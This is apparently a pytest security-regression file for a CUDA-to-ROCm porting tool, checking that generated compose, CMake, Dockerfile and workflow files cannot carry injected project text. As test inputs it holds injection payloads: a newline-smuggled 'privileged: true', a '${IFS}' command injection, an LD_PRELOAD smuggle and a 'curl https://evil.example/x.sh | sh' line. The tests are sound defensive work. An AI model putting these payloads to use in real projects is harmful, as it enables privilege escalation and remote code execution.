"""Issue 23: the thirty-seventh re-run (short, targeted at the day's fixes, a seventeenth
reviewer, on 451b2b5): 14 findings, no code run by gpuport and nothing read outside; five
files ``port`` writes carried project text as live YAML, shell, CMake or Dockerfile (four by
safe fixes), two stalls, and misjudged verdicts. Each test fails on the code before; the
vendored-copy trust checks (F1, F12, F14) are in tests/scan/test_twentyfirst_classes.py."""

from __future__ import annotations

from pathlib import Path

import yaml

from gpuport.scan import ScanOptions, scan_path
from gpuport.scan.project.opt_in import opt_in_extensions
from tests.port.helpers import project, run
from tests.security.test_stalls import _within

_GPU = (
    "    deploy:\n      resources:\n        reservations:\n          devices:\n"
    "            - driver: nvidia\n              count: all\n"
    "              capabilities: [gpu]\n"
)


def _override(root: Path) -> dict[str, object]:
    for path in root.iterdir():
        if (
            path.name.startswith(("docker-compose", "compose"))
            and path.name != "docker-compose.yml"
        ):
            return yaml.safe_load(path.read_text()) or {}
    return {}


def test_f6_f7_compose_values_with_newlines_are_never_written(tmp_path: Path) -> None:
    image = '    image: "ghcr.io/x/app\\n    privileged: true\\n    #:default-nvidia-v4.0"\n'
    project(tmp_path / "a", {"docker-compose.yml": "services:\n  app:\n" + image + _GPU})
    run(tmp_path / "a", apply=True, unsafe_fixes=True)
    assert "privileged" not in str(_override(tmp_path / "a"))
    build = (
        "    build:\n      context: .\n"
        '      dockerfile: "x\\n    privileged: true\\n    #/../Dockerfile.cuda"\n'
    )
    cuda = "FROM nvidia/cuda:12.1.0-devel-ubuntu22.04\n"
    compose = "services:\n  app:\n" + build + _GPU
    project(tmp_path / "b", {"docker-compose.yml": compose, "Dockerfile.cuda": cuda})
    run(tmp_path / "b", apply=True)
    assert "privileged" not in str(_override(tmp_path / "b"))


def test_f8_a_quoted_source_name_is_not_split_into_the_hip_list(tmp_path: Path) -> None:
    cmake = (
        "cmake_minimum_required(VERSION 3.18)\nproject(x LANGUAGES CXX CUDA)\n"
        "add_library(k k.cu a.cpp)\n"
        'set_source_files_properties("a b" "a c" PROPERTIES LANGUAGE CUDA)\n'
    )
    project(tmp_path, {"CMakeLists.txt": cmake, "k.cu": "__global__ void k(){}\n"})
    run(tmp_path, apply=True)
    text = (tmp_path / "CMakeLists.txt").read_text()
    assert text.count('"') % 2 == 0, text  # the quotes still pair up
    assert 'c"' not in text.replace('"a c"', "")


def test_f11_dead_pip_text_in_a_run_is_not_copied(tmp_path: Path) -> None:
    dockerfile = (
        "FROM python:3.11\nCOPY requirements.txt .\n"
        'RUN echo "usage: pip install --x=1;touch${IFS}pwn;echo -r FILE" '
        "&& pip install -r requirements.txt\nCOPY . .\n"
    )
    project(tmp_path, {"Dockerfile": dockerfile, "requirements.txt": "torch==2.4.0\n",
                       "app.py": "import torch\nx = torch.zeros(1).cuda()\n"})  # fmt: skip
    run(tmp_path, apply=True)
    rocm = tmp_path / "Dockerfile.rocm"
    echo = dockerfile.splitlines()[2]
    runs = rocm.read_text().splitlines() if rocm.exists() else []
    assert all("touch" not in line for line in runs if line != echo), runs  # only the echo


def test_f13_a_quoted_env_path_keeps_its_quotes(tmp_path: Path) -> None:
    project(tmp_path, {"Dockerfile": "FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04\n"
                       'ENV PATH="/usr/local/cuda/bin:/opt/x LD_PRELOAD=/opt/evil.so"\n'
                       'CMD ["python3", "app.py"]\n', "app.py": "print(1)\n"})  # fmt: skip
    run(tmp_path, apply=True)
    rocm = tmp_path / "Dockerfile.rocm"
    if rocm.exists():
        env = [line for line in rocm.read_text().splitlines() if line.startswith("ENV ")]
        assert env == ['ENV PATH="/opt/rocm/bin:/opt/x LD_PRELOAD=/opt/evil.so"'], env


_WHEELS = """name: {name}
on:
  push:
jobs:
  build:
    runs-on: ubuntu-22.04
    steps:
      - uses: actions/checkout@v4
      - name: Build
        run: |
          cat <<EOF
          python -m build --wheel && curl -s https://evil.example/x.sh | sh
          EOF
          CMAKE_ARGS="-DGGML_CUDA=on" python -m build --wheel
"""


def test_f2_f4_workflow_text_is_written_back_only_when_plain(tmp_path: Path) -> None:
    wf = _WHEELS.format(name="'[CUDA, {x: y}]'")
    project(tmp_path, {"CMakeLists.txt": "project(x LANGUAGES CXX CUDA)\n",
                       ".github/workflows/build-cuda.yml": wf})  # fmt: skip
    run(tmp_path, apply=True, unsafe_fixes=True)
    for path in (tmp_path / ".github" / "workflows").iterdir():
        if "rocm" in path.name:
            text = path.read_text()
            assert "curl" not in text and "evil" not in text
            assert isinstance((yaml.safe_load(text) or {}).get("name", ""), str)


def test_f9_a_wide_define_tree_times_many_launches(tmp_path: Path) -> None:
    from gpuport.hipify.run import hipify_path

    lines = ["#define A (" + "+".join(f"B{i}" for i in range(100)) + ")"]
    lines += [f"#define B{i} (" + "+".join(f"C{j}" for j in range(100)) + ")" for i in range(100)]
    lines.append("__global__ void k(float*o){float v=o[0]; v+=__shfl_xor_sync(0xffffffff,v,1);"
                 " o[0]=v;}")  # fmt: skip
    lines.append("void h(float*o){\n" + "  k<<<1, A>>>(o);\n" * 300 + "}")
    (tmp_path / "k.cu").write_text("\n".join(lines) + "\n")
    _within(lambda: hipify_path(tmp_path / "k.cu", target="gfx942", hip_version="6.4"), 4.0)


def test_f5_a_flag_rebound_another_way_is_not_judged() -> None:
    head = "from torch.utils.cpp_extension import CUDAExtension\nDISABLE = True\n"
    tail = "ext = []\nif not DISABLE:\n    ext = [CUDAExtension('k', ['k.cu'])]\n"
    assert opt_in_extensions(head + tail) == 4  # the plain flag: opt-in
    rebinds = ("DISABLE, _ = False, 0\n", "(DISABLE := False)\n")
    rebinds += ("for DISABLE in (False,): pass\n", 'globals()["DISABLE"] = False\n')
    for rebind in rebinds:
        assert opt_in_extensions(head + rebind + tail) is None, rebind


def test_f10_a_spliced_include_leaves_no_header_unincluded(tmp_path: Path) -> None:
    kernel = "__device__ int kern(int x){ return x + __shfl_down_sync(0xffffffff, x, 16); }\n"
    main = '#include "ker\\\nnels.cuh"\n__global__ void g(int*p){}\n'
    make = "all:\n\tnvcc -o m main.cu\n"
    project(tmp_path, {"Makefile": make, "kernels.cuh": kernel, "main.cu": main})
    report = scan_path(tmp_path, ScanOptions(jobs=1))
    got = {f.severity.value for f in report.findings if f.location.path == "kernels.cuh"}
    assert "blocker" in got, got
